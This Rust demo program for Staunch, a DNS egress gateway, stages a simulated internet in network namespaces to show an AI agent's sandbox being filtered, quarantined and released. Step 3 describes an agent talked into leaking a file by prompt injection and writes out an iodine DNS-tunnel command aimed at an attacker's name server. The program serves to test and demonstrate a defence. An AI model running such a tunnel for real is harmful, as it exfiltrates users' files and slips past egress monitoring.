//! The main job, told step by step: a sandbox, a real tunnel, a real packet filter, and what each of them feels.
//!
//! Builds its own small internet in network namespaces and removes it. Exits with 1 if a step ends otherwise than told.

#[path = "../tests/world/mod.rs"]
mod world;

use std::io::IsTerminal;
use std::net::SocketAddr;
use std::process::{ExitCode, Output};
use std::time::{Duration, Instant};

use serde_json::Value;
use world::staunch::{Config, Staunch};
use world::tunnel::{self, Tool};
use world::web::Soc;
use world::{SOC, World};

const PAGE: &str = "http://www.site.example/";
/// Open to all on port 80, but nobody asked for its name.
const NEVER_RESOLVED: &str = "203.0.113.99";

fn main() -> ExitCode {
    let begin = Instant::now();
    let say = Voice::new();
    let Some(world) = World::create(1) else {
        say.note("The demo needs root, for network namespaces and nftables. Try: sudo make demo");
        return ExitCode::FAILURE;
    };
    remove_on_interrupt();
    let failed = story(&world, &say);
    drop(world);
    say.head("The end");
    say.note(&format!("Everything is removed again. It took {:.0} seconds.", begin.elapsed().as_secs_f32()));
    match failed {
        0 => ExitCode::SUCCESS,
        n => {
            say.bad(&format!("{n} step(s) ended otherwise than told above."));
            ExitCode::FAILURE
        }
    }
}

/// Ctrl-C removes the namespaces too.
fn remove_on_interrupt() {
    std::thread::spawn(|| {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
        if runtime.block_on(tokio::signal::ctrl_c()).is_ok() {
            world::ns::remove_own();
            std::process::exit(130);
        }
    });
}

fn story(world: &World, say: &Voice) -> u32 {
    let mut failed = 0;
    let mut expect = |held: bool, good: &str, bad: &str| {
        if held {
            say.good(good);
        } else {
            say.bad(bad);
            failed += 1;
        }
        held
    };
    say.note("An agent's sandbox, a gateway with Staunch and nftables, and a small internet with a web server, an");
    say.note("attacker's name server and a SOC's webhook: all of it in network namespaces on this machine.");

    let soc = Soc::start(&world.gw, SocketAddr::from((SOC, 8080)));
    let key = world.path("hmac.key");
    std::fs::write(&key, "a shared secret of the demo\n").expect("the key written");
    let config = Config::enforce().tables(&format!(
        "[[alert]]\nname = \"soc\"\nkind = \"webhook\"\nurl = \"{}\"\nsecret_file = {key:?}\n",
        soc.url
    ));
    let staunch = Staunch::start(world, &config);
    let agent = &world.agents[0];

    say.head("1. The agent fetches a page by name");
    let (page, took) = timed(|| say.run(world, "curl -sS --max-time 10 http://www.site.example/"));
    let fetched = page.status.success();
    expect(fetched, &format!("Answered, pinned, fetched in {}.", ms(took)), "The page did not come.");

    say.head("2. It dials an address whose name it never asked for");
    let (dial, took) = timed(|| say.run(world, &format!("curl -sS --max-time 10 http://{NEVER_RESOLVED}/")));
    let refused = !dial.status.success() && took < Duration::from_secs(1);
    expect(refused, &format!("Refused at once, after {}: no answer, no way.", ms(took)), "It was not refused at once.");

    say.head("3. Talked into leaking a file, it starts a DNS tunnel (iodine, TXT records)");
    let domain = tunnel::domain(0);
    say.prompt(&format!("iodine -f -r -T TXT {} t.{domain}", agent.gateway));
    let outcome = tunnel::attempt(world, &[Tool::Iodine("TXT")], Duration::from_secs(12)).remove(0);
    for line in outcome.log.lines().filter(|l| !l.trim().is_empty()).rev().take(3).collect::<Vec<_>>().iter().rev() {
        say.output(line);
    }
    let queries = world.upstream.seen_below(&domain).len();
    let (names, octets) = world.upstream.leaked(&domain);
    expect(
        outcome.arrived == 0,
        &format!("Stopped: 0 of {} octets of the file arrived at the attacker's.", tunnel::FILE),
        &format!("{} octets of the file arrived!", outcome.arrived),
    );
    say.note(&format!(
        "What the attacker's server saw: {queries} queries, {names} names, {octets} octets of payload labels."
    ));
    let quarantined = staunch.session_state("agent-1") == "quarantined";
    expect(quarantined, "The session is quarantined.", "The session is not quarantined.");

    say.head("4. The alert, as the SOC's webhook received it");
    let alert =
        world::wait_for(Duration::from_secs(10), || soc.alerts().into_iter().find(|a| a["kind"] == "quarantine"));
    if expect(alert.is_some(), "It arrived.", "No alert arrived.") {
        show_alert(say, &alert.unwrap_or_default(), &soc);
    }

    say.head("5. The agent's next look-up");
    let dig = say.run_for(world, "dig www.site.example A", &["status:", "EDE:"]);
    let text = String::from_utf8_lossy(&dig.stdout).into_owned();
    let heard = text.contains("NXDOMAIN") && text.contains("EDE");
    expect(heard, "Refused with its reason.", "The refusal or its reason is missing.");
    let txt = say.run(world, "dig +short www.site.example TXT");
    let told = !String::from_utf8_lossy(&txt.stdout).trim().is_empty();
    expect(told, "And the same where a program without EDNS can read it.", "No reason in the TXT record.");

    say.head("6. An operator has looked into it and opens the session again");
    let words = ["session", "release", "agent-1", "--by", "alice", "--reason", "prompt injection cleaned up"];
    say.prompt("staunch session release agent-1 --by alice --reason \"prompt injection cleaned up\"");
    let release = staunch.run(&words);
    say.output(String::from_utf8_lossy(&release.stdout).trim());
    expect(release.status.success(), "Released, on the record.", "The release failed.");
    // The stub may keep the refusal for its short negative TTL; curl keeps nothing.
    let page = say.run(world, &format!("curl -sS --max-time 10 {PAGE}"));
    expect(page.status.success(), "The page comes again.", "The page did not come.");
    failed
}

fn show_alert(say: &Voice, alert: &Value, soc: &Soc) {
    let field = |key: &str| match &alert[key] {
        Value::String(text) => text.clone(),
        other => other.to_string(),
    };
    for key in
        ["kind", "summary", "session", "owner", "reason", "tenant", "case", "leaked_bits_at_most", "names_forwarded"]
    {
        say.output(&format!("{key:<20} {}", field(key)));
    }
    let list = |key: &str| alert[key].as_array().cloned().unwrap_or_default();
    for signal in list("signals").iter().take(3) {
        let contribution = signal["contribution"].as_f64().unwrap_or_default();
        say.output(&format!("{:<20} {} {contribution:+.2}", "signal", signal["signal"].as_str().unwrap_or_default()));
    }
    for name in list("samples").iter().take(2).filter_map(Value::as_str) {
        let short: String = name.chars().take(64).collect();
        say.output(&format!("{:<20} {short}{}", "sample", if short.len() < name.len() { "..." } else { "" }));
    }
    for action in list("actions").iter().filter_map(Value::as_str) {
        say.output(&format!("{:<20} {action}", "action"));
    }
    let signed = soc.taken().iter().any(|r| r.headers.keys().any(|h| h.contains("signature")));
    say.note(&format!(
        "At most {} bits have left in names. The request is {}.",
        field("leaked_bits_at_most"),
        if signed { "signed (HMAC)" } else { "not signed" }
    ));
}

fn timed<T>(work: impl FnOnce() -> T) -> (T, Duration) {
    let start = Instant::now();
    (work(), start.elapsed())
}

fn ms(time: Duration) -> String {
    format!("{:.0} ms", time.as_secs_f32() * 1000.0)
}

/// Plain short lines; colours only for a person who wants them.
struct Voice {
    colours: bool,
}

impl Voice {
    fn new() -> Self {
        let unwanted = std::env::var_os("NO_COLOR").is_some_and(|v| !v.is_empty());
        Self { colours: std::io::stdout().is_terminal() && !unwanted }
    }

    fn line(&self, colour: &str, text: &str) {
        if self.colours {
            println!("\x1b[{colour}m{text}\x1b[0m");
        } else {
            println!("{text}");
        }
    }

    fn head(&self, text: &str) {
        println!();
        self.line("1", text);
    }

    fn note(&self, text: &str) {
        self.line("0", &format!("   {text}"));
    }

    fn good(&self, text: &str) {
        self.line("32", &format!("   ok: {text}"));
    }

    fn bad(&self, text: &str) {
        self.line("31", &format!("   FAILED: {text}"));
    }

    fn prompt(&self, command: &str) {
        self.line("36", &format!("   $ {command}"));
    }

    /// What a program said; control characters of it stay out of the terminal.
    fn output(&self, text: &str) {
        for line in text.lines() {
            let safe: String = line.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
            self.line("2", &format!("     {safe}"));
        }
    }

    /// Runs a command in the agent's sandbox and shows it with its output.
    fn run(&self, world: &World, command: &str) -> Output {
        self.run_for(world, command, &[])
    }

    /// The same, showing only lines that hold one of these.
    fn run_for(&self, world: &World, command: &str, wanted: &[&str]) -> Output {
        self.prompt(command);
        let output = world.agents[0].ns.sh(command);
        for stream in [&output.stdout, &output.stderr] {
            let text = String::from_utf8_lossy(stream);
            for line in text.lines().filter(|l| wanted.is_empty() || wanted.iter().any(|w| l.contains(w))) {
                self.output(line.trim_start_matches([';', ' ']));
            }
        }
        output
    }
}
